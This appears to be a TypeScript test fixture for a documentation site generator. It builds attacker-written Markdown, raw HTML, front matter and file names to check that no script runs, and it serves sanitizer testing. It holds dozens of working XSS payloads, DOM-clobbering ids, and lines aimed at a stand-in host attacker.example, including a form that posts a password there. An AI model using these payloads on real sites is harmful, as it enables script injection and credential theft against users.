/**
 * A site written by an attacker: plain files that try to run script in a reader's browser by every way that Markdown,
 * raw HTML, front matter and file names offer. Whatever gets through calls `pwn`, which sets a mark on the window.
 */
import type { SiteFiles } from '../src/written-site.js';

/** Name of the mark on `window`. */
export const mark = '__pwned';

const pwn = `window.${mark}=1`;
const url = `javascript:${pwn}`;
const tag = `<img src=x onerror=${pwn}>`;

const rawHtml = [
  `<script>${pwn}</script>`,
  `<script src="data:text/javascript,${pwn}"></script>`,
  `<scr<script>ipt>${pwn}</scr</script>ipt>`,
  tag,
  `<IMG SRC=x OnErRoR=${pwn}>`,
  `<img src="x\`>" onerror="${pwn}">`,
  `<img/src=x/onerror=${pwn}//>`,
  `<svg onload=${pwn}></svg>`,
  `<svg><script>${pwn}</script></svg>`,
  `<svg><a xlink:href="${url}"><text x="9" y="9">x</text></a></svg>`,
  `<svg><a href="#x"><text x="9" y="9">x</text><set attributeName="href" to="${url}"/></a></svg>`,
  `<svg><animate onbegin=${pwn} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${pwn}</script></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${pwn}&gt;">`,
  `<math href="${url}">x</math>`,
  `<iframe src="${url}"></iframe>`,
  `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
  `<object data="${url}"></object>`,
  `<embed src="${url}">`,
  `<meta http-equiv="refresh" content="0; url=${url}">`,
  `<meta http-equiv="refresh" content="0; url=/elsewhere">`,
  `<base href="https://attacker.example/">`,
  `<link rel="stylesheet" href="https://attacker.example/a.css">`,
  `<style>body { display: none } @import 'https://attacker.example/a.css';</style>`,
  `<p style="position: fixed; inset: 0; z-index: 99">over everything</p>`,
  `<form action="${url}"><input type="submit" value="x" formaction="${url}"></form>`,
  `<form action="https://attacker.example/"><input name="password"></form>`,
  `<button onclick="${pwn}" autofocus onfocus="${pwn}">x</button>`,
  `<input autofocus onfocus="${pwn}">`,
  `<details open ontoggle="${pwn}"><summary>x</summary></details>`,
  `<video><source onerror="${pwn}"></video>`,
  `<audio src=x onerror="${pwn}"></audio>`,
  `<body onload="${pwn}">`,
  `<a href="${url}">raw link</a>`,
  `<a href="java&#10;script:${pwn}">raw link with a line feed</a>`,
  `<a href="&#x6A;avascript:${pwn}">raw link with entities</a>`,
  `<a href=" \u0001${url}">raw link with control characters</a>`,
  `<a href="data:text/html,<script>${pwn}</script>">raw data link</a>`,
  `<div popover id="docgen-drawer">x</div>`,
  `<locale-block data-title="${tag}">x</locale-block>`,
  `<noscript><p title="</noscript>${tag}"></noscript>`,
  `<template><script>${pwn}</script></template>`,
  `<plaintext>`,
];

const markdown = [
  `[link](${url})`,
  `[link](<${url}>)`,
  `[link](JaVaScRiPt:${pwn})`,
  `[link](java&#115;cript:${pwn})`,
  `[link](javascript&colon;${pwn})`,
  `[link](\\javascript:${pwn})`,
  `[link](vbscript:${pwn})`,
  `[link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)`,
  `[link](/x" onmouseover="${pwn}) [link](/x 'title" onmouseover="${pwn}')`,
  `[reference] ![reference]\n\n[reference]: ${url} "${tag}"`,
  `<${url}>`,
  `![${tag}](x"onerror="${pwn})`,
  `![image](${url})`,
  `![image](data:image/svg+xml,<svg/onload=${pwn}>)`,
  `\`${tag}\``,
  `| ${tag} |\n| --- |\n| [cell](${url}) |`,
  `Footnote[^1]\n\n[^1]: [note](${url}) ${tag}`,
  `\`\`\`js"onmouseover="${pwn} title="${tag}"\n${tag}\n</code></pre>${tag}\n\`\`\``,
  `\`\`\`<script>\n</script>\n\`\`\``,
  `:::note[${tag}]\n[link](${url})\n:::`,
  `:::note{onclick="${pwn}" style="display:none"}\ntext\n:::`,
  `:::${tag}\ntext\n:::`,
  `> [!NOTE]\n> ${tag} [link](${url})`,
];

/** Names that scripts read, and that a heading or an anchor tries to claim. */
export const clobbering = [
  'location',
  'document',
  'body',
  'cookie',
  'forms',
  'customElements',
  'localStorage',
  'matchMedia',
  'querySelector',
  'currentScript',
  'dataLayer',
  '__proto__',
];

/** Ids of the theme's own parts. */
const frameIds = ['docgen-main', 'docgen-page', 'docgen-drawer', 'docgen-toc', 'docgen-locales'];

/** The files, by path. */
export const hostileFiles: SiteFiles = {
  'index.md': `# Home ${tag}\n\n[markdown](markdown.md) [raw](raw.md)\n`,
  'markdown.md': `# ${tag} \`${tag}\` [x](${url})\n\n${markdown.join('\n\n')}\n`,
  'front-matter.md': [
    '---',
    `title: '</title><script>${pwn}</script>${tag}'`,
    `description: '"><script>${pwn}</script>'`,
    `keywords: ['"><script>${pwn}</script>']`,
    `sidebar: {label: '${tag}</script>'}`,
    `image: '${url}'`,
    '---',
    'Text without a heading, after `</script><!--`.',
    '',
  ].join('\n'),
  'clobber.md': [
    '# Clobber',
    ...[...clobbering, ...frameIds].flatMap((id) => [
      `## ${id}`,
      `## Named ${id} {#${id}}`,
      `<a name="${id}">x</a>`,
    ]),
  ].join('\n\n'),
  [`${tag}.md`]: `# File\n\n## '"><script>${pwn}</script>\n`,
  [`"onmouseover=${pwn} ${tag}/page.md`]: '# In a folder\n',
  ...Object.fromEntries(
    rawHtml.map((html, n) => [
      `raw/${n}.md`,
      `# Raw ${n}\n\n${html}\n\nInline ${html} text.\n\n[after](../index.md)\n`,
    ]),
  ),
  'raw.md': `# All at once\n\n${rawHtml.join('\n\n')}\n`,
};
